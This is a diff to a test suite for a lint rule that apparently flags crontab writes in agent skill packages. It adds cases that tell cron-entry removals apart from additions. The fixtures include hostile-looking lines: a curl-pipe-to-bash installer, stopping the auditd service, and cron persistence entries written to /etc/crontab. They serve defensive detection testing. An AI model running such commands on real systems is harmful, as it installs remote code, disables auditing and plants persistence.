@@ -18,6 +18,26 @@ tester.run(rule, {
       folder: { 'scripts/show.sh': "#!/bin/bash\nshow() {\n  cat << 'EOF'\nINSTALL:\n  curl -fsSL https://get.example.test/install | bash\n  sudo service auditd stop\n  echo '* * * * * /opt/x' >> /etc/crontab\nEOF\n}\nshow\n" },
     },
     {
+      name: 'an entry removed in a subshell, a case arm, a branch, or from a variable read from crontab -l: nothing is added',
+      code: '---\nname: s\ndescription: Watches a site.\n---\nRun `scripts/cron.sh remove`.\n',
+      folder: {
+        'scripts/cron.sh': [
+          '#!/bin/bash',
+          'case "$1" in',
+          '  remove) crontab -l 2>/dev/null | grep -v "site-watch" | crontab - ; echo "removed"; exit 0 ;;',
+          'esac',
+          '(crontab -l 2>/dev/null | grep -v "site-watch" || true) | crontab -',
+          'if crontab -l | grep -q site-watch; then',
+          '  (crontab -l 2>/dev/null | grep -v "$MARK") | crontab -',
+          'fi',
+          'crontab -l 2>/dev/null | grep -v -i "site-watch\\|old-job" | crontab - 2>/dev/null || true',
+          'CURRENT=$(crontab -l 2>/dev/null)',
+          'echo "$CURRENT" | grep -v "site-watch" | crontab -',
+          '',
+        ].join('\n'),
+      },
+    },
+    {
       name: 'crontab-write nomatch (code): crontab -e',
       code: '---\nname: s\ndescription: Helps with the project.\n---\nRun:\n\n```\ncrontab -e\n```\n',
     },
@@ -68,6 +88,28 @@ tester.run(rule, {
     },
   ],
   invalid: [
+    {
+      name: 'twins of the removal: a line added before the read in its subshell, a second write, a variable not read from crontab, a sed that rewrites',
+      code: '---\nname: s\ndescription: Watches a site.\n---\nRun `scripts/cron.sh`.\n',
+      folder: {
+        'scripts/cron.sh': [
+          '#!/bin/bash',
+          '(echo "* * * * * /opt/y"; crontab -l | grep -v x) | crontab -',
+          'crontab -l | grep -v x | crontab -; echo "* * * * * /opt/y" | crontab -',
+          'NEW="* * * * * /opt/y"',
+          'echo "$NEW" | grep -v x | crontab -',
+          'crontab -l | grep -v x | sed "s/a/b/" | crontab -',
+          '(crontab -l | grep -v x) | crontab -)',
+          '',
+        ].join('\n'),
+      },
+      errors: [
+        { line: 2, severity: 'warning', messageId: 'crontab-write', file: 'skills/s/scripts/cron.sh' },
+        { line: 3, severity: 'warning', messageId: 'crontab-write', file: 'skills/s/scripts/cron.sh' },
+        { line: 5, severity: 'warning', messageId: 'crontab-write', file: 'skills/s/scripts/cron.sh' },
+        { line: 6, severity: 'warning', messageId: 'crontab-write', file: 'skills/s/scripts/cron.sh' },
+      ],
+    },
     {
       name: 'a crontab rewrite that adds a line, or filters with grep without -v, still schedules',
       code: '---\nname: s\ndescription: Watches a site.\n---\nRun:\n\n```sh\n(crontab -l | grep -v x; echo "* * * * * /opt/y") | crontab -\ncrontab -l | grep x | crontab -\ncat <<EOF >> /etc/crontab\n* * * * * root /opt/y\nEOF\n```\n',
